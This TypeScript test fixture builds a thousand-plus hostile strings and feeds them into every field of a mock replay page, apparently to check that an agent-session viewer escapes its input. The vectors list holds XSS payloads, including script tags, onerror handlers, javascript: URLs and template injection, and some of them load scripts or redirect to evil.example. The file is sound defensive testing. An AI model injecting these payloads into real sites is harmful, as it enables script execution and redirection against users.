import { kinds, type Events, type Lane, type Moment, type Source } from "../src/replay/page.ts";
import { sequences, unseenCharacters } from "./hostile-text.ts";

const vectors = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  '"><script src=//evil.example/x.js></script>',
  "'-alert(1)-'",
  "</style><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<!--<script>",
  "]]><x/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><button>",
  "<link rel=stylesheet href=//evil.example>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "url(//evil.example)",
  "expression(alert(1))",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "&lt;script&gt;",
  "&#60;img src=x&#62;",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "%3Cscript%3E",
  "\u202etxet desrever",
  "a".repeat(4000),
  " ",
  "0",
  "null",
];

/** A thousand strings and more that try to be something else than text. */
export const hostileStrings: readonly string[] = [
  ...vectors,
  ...sequences,
  ...unseenCharacters.map((one) => `a${one}b`),
  ...Array.from({ length: 1000 }, (_, place) => {
    const one = vectors[place % vectors.length] ?? "";
    const other = vectors[(place * 7 + 3) % vectors.length] ?? "";
    return place % 3 === 0
      ? `${place}${one}`
      : place % 3 === 1
        ? `${one}${place}${other.slice(0, 60)}`
        : `"${one}'${place}\n\`${other.slice(0, 60)}`;
  }),
];

const start = Date.UTC(2026, 8, 17, 13, 30);

/** A page every string of which is hostile, and each field of it another one. */
export function hostileSource(strings: readonly string[]): Source {
  const of = (place: number) => strings[place % strings.length] ?? "";
  const plain = { count: 40, from: start, to: start + 600_000 };
  const lanes: Lane[] = [
    { ...plain, kind: "agent", name: of(0), offset: 90_000 },
    { ...plain, kind: "agent", name: of(1) },
    { ...plain, kind: "session", name: of(2), parent: 0, harness: of(3), session: of(4) },
    { ...plain, kind: "subagent", name: of(5), parent: 2 },
    { ...plain, kind: "session", name: of(6), parent: 1, harness: of(7), session: of(8) },
  ];
  const moments: Moment[] = [];
  const add = (moment: Omit<Moment, "seq" | "at">) =>
    moments.push({ ...moment, seq: moments.length, at: start + moments.length * 5000 });
  for (const [place, one] of strings.entries()) {
    const lane = place % 2;
    add({ kind: "claim", lane, step: one, term: 1, until: start + 500_000, id: of(place + 1) });
    add({
      kind: "send",
      lane,
      to: place % 3 === 0 ? -1 : 1 - lane,
      text: one,
      id: of(place + 2),
      urgent: true,
    });
    add({ kind: "memory", lane, key: one, text: of(place + 3), revision: of(place + 4) });
    add({ kind: "artifact", lane, key: of(place + 5), size: 9 });
    add({ kind: "lost", lane: 1 - lane, step: one, holder: lane, holderTerm: 1 });
    add({
      kind: "handoff",
      lane,
      to: 1 - lane,
      step: one,
      text: of(place + 6),
      files: [of(place + 7), of(place + 8)],
    });
    if (place % 4 === 1) add({ kind: "block", lane, step: one, term: 1, text: of(place + 9) });
    if (place % 4 === 2) add({ kind: "lapse", lane, step: one, term: 1 });
    if (place % 4 === 3) add({ kind: "review", lane, step: one, term: 1, text: of(place + 10) });
    add({ kind: "reserve", lane, key: of(place + 11) });
  }
  const count = moments.length;
  const to = start + count * 5000;
  const zeros = () => new Uint32Array(count);
  const events: Events = {
    first: 0,
    at: Float64Array.from(moments, ({ at }) => at),
    said: Float64Array.from(moments, ({ at }) => at),
    lane: Uint32Array.from(moments, ({ lane }) => lane),
    nth: Uint32Array.from(moments, (_, place) => place),
    kind: Uint8Array.from(moments, ({ kind }) => kinds.indexOf(kind)),
    flags: new Uint8Array(count),
    tool: new Uint16Array(count).fill(1),
    model: new Uint16Array(count).fill(1),
    pair: new Float64Array(count).fill(-1),
    tokens: { input: zeros(), output: zeros(), cacheRead: zeros(), cacheWrite: zeros() },
    body: new Int32Array(count).fill(-1),
    start: zeros(),
    length: zeros(),
  };
  const flat = () => lanes.map(() => new Uint32Array(256).fill(1));
  return {
    header: {
      schema: 1,
      project: of(9),
      store: of(10),
      made: to,
      from: start,
      to,
      events: count,
      lanes,
      tools: [of(11)],
      models: [of(12)],
      bodies: "preview",
      index: [{ size: 0, from: start, to, lanes: [0, count / 2, 1, count / 2] }],
      bodyBlocks: [],
      spent: strings.slice(0, 12).map((model, place) => ({
        lane: 2,
        model,
        step: of(place + 13),
        input: 1,
        output: 1,
        cacheRead: 1,
        cacheWrite: 1,
      })),
      prices: of(14),
      redacted: { [of(15)]: 1 },
      notes: [of(16), of(17)],
    },
    moments,
    pyramid: { levels: [{ buckets: 256, counts: flat(), errors: flat() }] },
    work: { events: 0, previews: 0, bodies: 0 },
    events: () => Promise.resolve(events),
    previews: () => Promise.resolve(moments.map((_, place) => of(place))),
    body: (_, index) => Promise.resolve(of(index)),
  };
}
